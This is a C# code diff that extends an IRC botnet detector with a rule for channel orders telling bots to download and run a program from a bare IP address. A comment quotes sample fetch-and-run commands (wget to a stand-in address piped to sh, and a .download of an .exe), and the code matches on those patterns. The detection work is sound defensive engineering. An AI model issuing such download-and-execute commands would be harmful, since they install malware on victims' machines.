@@ -22,6 +22,7 @@ internal static class IrcBot
             if (!fromResponder && PeekText.StartsIgnoreCase(line, "NICK "u8) && IsMade(line[5..])) return Of("a nickname as bots give themselves", fromResponder);
             if (!fromResponder && PeekText.StartsIgnoreCase(line, "PRIVMSG "u8) && line.IndexOf(" :"u8) is > 0 and var said && ShellPeek.Look(line[(said + 2)..], fromResponder) is { Kind: IndicatorKind.Shell }) return Of("what a shell says, into a channel", fromResponder);
             if (fromResponder && line.StartsWith(":"u8) && IsOrder(line)) return Of("an order to attack somebody, in a channel", fromResponder);
+            if (fromResponder && line.StartsWith(":"u8) && IsLoad(line)) return Of("an order to load and run a program from a bare address, in a channel", fromResponder);
         }
 
         return null;
@@ -69,6 +70,21 @@ internal static class IrcBot
         text = text[(at + 3)..];
         int space = text.IndexOf((byte)' ');
         return space > 0 && IsAttack(text[..space]) && IsAddress(text[(space + 1)..]) && (IsPlainAttack(text[..space]) || CountNumbers(text[(space + 1)..]) >= 2);
+    }
+
+    /// <summary>":herder!x@y PRIVMSG #channel :!* SH wget http://192.0.2.1/a;sh a", ".download http://192.0.2.1/a.exe c:\a.exe 1": a sign, and a program from a bare address that is to be run.</summary>
+    private static bool IsLoad(ReadOnlySpan<byte> line)
+    {
+        int at = line.IndexOf(" PRIVMSG "u8);
+        if (at < 0 || line[(at + 9)..].IndexOf(" :"u8) is not (>= 0 and var colon)) return false;
+        var text = line[(at + 9 + colon + 2)..];
+        if (text.Length < 16 || text[0] is not ((byte)'.' or (byte)'!' or (byte)'@' or (byte)'-')) return false;
+        int url = text.IndexOf("http://"u8);
+        if (url < 0) return false;
+        var host = text[(url + 7)..];
+        int end = host.IndexOfAnyExcept(OfAddress);
+        bool bare = host.StartsWith("["u8) || (end is >= 7 and <= 15 && host[..end].Count((byte)'.') == 3 && host[end] is (byte)'/' or (byte)':');
+        return bare && (host.IndexOf(".exe"u8) >= 0 || ((text.IndexOf("wget"u8) >= 0 || text.IndexOf("curl"u8) >= 0) && (host.IndexOf(";sh "u8) >= 0 || host.IndexOf("; sh "u8) >= 0 || host.IndexOf("|sh"u8) >= 0 || host.IndexOf("| sh"u8) >= 0 || host.IndexOf("chmod"u8) >= 0)));
     }
 
     private static bool IsPlainAttack(ReadOnlySpan<byte> verb) => PeekText.ContainsIgnoreCase(verb, "DDOS"u8) || PeekText.ContainsIgnoreCase(verb, "FLOOD"u8);
